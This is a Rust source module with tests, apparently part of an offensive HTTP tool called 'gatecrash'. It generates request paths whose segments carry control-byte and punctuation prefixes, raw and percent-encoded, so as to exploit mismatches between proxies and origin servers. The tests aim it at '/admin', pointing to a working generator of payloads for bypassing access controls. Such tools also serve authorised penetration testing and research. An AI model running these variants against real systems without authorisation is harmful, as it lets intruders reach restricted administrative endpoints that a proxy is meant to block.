//! Control and punctuation bytes prefixed to path segments.
//!
//! Proxies trim or reject oddly-prefixed segments that origins happily
//! serve, and vice versa. Every control byte, every punctuation byte, and
//! the letter `x` is tried as a raw prefix, a percent-encoded prefix, and a
//! dummy leading segment; two-byte prefixes pair each byte with a small
//! tail set to keep the product bounded. Raw CR/LF are emitted only in
//! encoded form; on the wire they would terminate the request line.

use gatecrash_payload::RequestDescriptor;

use crate::{
    context::{DedupKey, Emitter, GenerationContext},
    pathutil,
};

const NAME: &str = "path_prefix";

/// Second bytes for the two-byte prefix combinations.
const PAIR_TAILS: &[u8] = &[b';', b':', b'.', b'x', b'~', b'!'];

/// Every ASCII control byte, every punctuation/symbol byte, and `x`.
fn prefix_bytes() -> Vec<u8> {
    let mut bytes: Vec<u8> = (0x00..=0x1F).collect();
    bytes.push(0x7F);
    bytes.extend((0x20..=0x7E).filter(u8::is_ascii_punctuation));
    bytes.push(b'x');
    bytes
}

fn breaks_request_line(byte: u8) -> bool {
    byte == b'\n' || byte == b'\r'
}

pub(crate) fn generate(ctx: &GenerationContext) -> Vec<RequestDescriptor> {
    let mut emitter = Emitter::new(DedupKey::RawUri);
    let path = ctx.target.path_or_root();
    let segments = pathutil::segments(path);

    for &byte in &prefix_bytes() {
        let raw = (byte as char).to_string();
        let encoded = format!("%{byte:02X}");

        for &(start, _) in &segments {
            if !breaks_request_line(byte) {
                ctx.emit_path(&mut emitter, NAME, &pathutil::insert_at(path, start, &raw));
            }
            ctx.emit_path(&mut emitter, NAME, &pathutil::insert_at(path, start, &encoded));
        }

        // dummy segment ahead of the original first one
        if !breaks_request_line(byte) {
            ctx.emit_path(&mut emitter, NAME, &format!("/{raw}{path}"));
        }
        ctx.emit_path(&mut emitter, NAME, &format!("/{encoded}{path}"));

        for &tail in PAIR_TAILS {
            let raw_pair = format!("{}{}", byte as char, tail as char);
            let encoded_pair = format!("%{byte:02X}%{tail:02X}");
            for &(start, _) in &segments {
                if !breaks_request_line(byte) {
                    ctx.emit_path(&mut emitter, NAME, &pathutil::insert_at(path, start, &raw_pair));
                }
                ctx.emit_path(
                    &mut emitter,
                    NAME,
                    &pathutil::insert_at(path, start, &encoded_pair),
                );
            }
        }
    }

    emitter.finish()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::generators::testutil;

    #[test]
    fn raw_and_encoded_single_byte_prefixes() {
        let out = generate(&testutil::ctx("https://h/admin"));
        let uris = testutil::uris(&out);
        assert!(uris.contains(&"/\u{0}admin"), "raw NUL prefix");
        assert!(uris.contains(&"/%00admin"));
        assert!(uris.contains(&"/xadmin"));
        assert!(uris.contains(&"/%7Fadmin"));
    }

    #[test]
    fn dummy_segment_prefixes() {
        let out = generate(&testutil::ctx("https://h/admin"));
        let uris = testutil::uris(&out);
        assert!(uris.contains(&"/x/admin"));
        assert!(uris.contains(&"/%09/admin"));
    }

    #[test]
    fn two_byte_combinations_in_matching_encodings() {
        let out = generate(&testutil::ctx("https://h/admin"));
        let uris = testutil::uris(&out);
        assert!(uris.contains(&"/;xadmin"), "raw+raw");
        assert!(uris.contains(&"/%3B%78admin"), "encoded+encoded");
    }

    #[test]
    fn every_segment_is_prefixed() {
        let out = generate(&testutil::ctx("https://h/a/b"));
        let uris = testutil::uris(&out);
        assert!(uris.contains(&"/xa/b"));
        assert!(uris.contains(&"/a/xb"));
    }

    #[test]
    fn raw_crlf_never_appears() {
        let out = generate(&testutil::ctx("https://h/admin"));
        assert!(out.iter().all(|d| !d.raw_uri.contains('\n') && !d.raw_uri.contains('\r')));
        let uris = testutil::uris(&out);
        assert!(uris.contains(&"/%0Aadmin"));
        assert!(uris.contains(&"/%0Dadmin"));
        testutil::assert_wire_distinct(&out);
    }
}
